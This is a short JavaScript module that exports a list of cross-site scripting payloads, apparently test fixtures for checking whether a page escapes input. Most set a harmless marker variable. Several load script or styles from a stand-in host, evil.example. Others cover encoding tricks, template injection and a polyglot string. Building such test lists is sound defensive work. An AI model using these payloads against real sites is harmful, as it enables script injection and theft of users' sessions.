const payloads = `
<script>window.__x=1</script>|<SCRIPT SRC=//evil.example/x.js></SCRIPT>|<img src=x onerror=window.__x=1>|<svg onload=window.__x=1>
<svg/onload=window.__x=1>|<body onload=window.__x=1>|<iframe src="javascript:window.__x=1">|<a href="javascript:window.__x=1">点我</a>
"><script>window.__x=1</script>|'><img src=x onerror=window.__x=1>|</textarea><script>window.__x=1</script>|</title><svg onload=window.__x=1>
</script><script>window.__x=1</script>|<details open ontoggle=window.__x=1>|<input autofocus onfocus=window.__x=1>|<marquee onstart=window.__x=1>
<video><source onerror=window.__x=1>|<math><mi xlink:href="data:x,<script>window.__x=1</script>">|<style>@import'//evil.example'</style>|<base href=//evil.example/>
<object data="javascript:window.__x=1">|<embed src="javascript:window.__x=1">|<form action="javascript:window.__x=1"><button>|<link rel=stylesheet href=//evil.example>
<meta http-equiv=refresh content="0;url=javascript:window.__x=1">|<isindex action=javascript:window.__x=1 type=image>|<img src="x\`\` onerror=window.__x=1">|<<script>window.__x=1//<</script>
&lt;script&gt;window.__x=1&lt;/script&gt;|&#60;script&#62;window.__x=1&#60;/script&#62;|%3Cscript%3Ewindow.__x=1%3C/script%3E|\\u003cscript\\u003ewindow.__x=1\\u003c/script\\u003e
{{constructor.constructor('window.__x=1')()}}|\${window.__x=1}|#{window.__x=1}|<%= window.__x=1 %>|javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+window.__x=1//'>`;

/** Texts that would run as scripts in a page that does not escape them. */
export const scriptPayloads = payloads
  .split(/[\n|]/)
  .map((payload) => payload.trim())
  .filter((payload) => payload !== '');
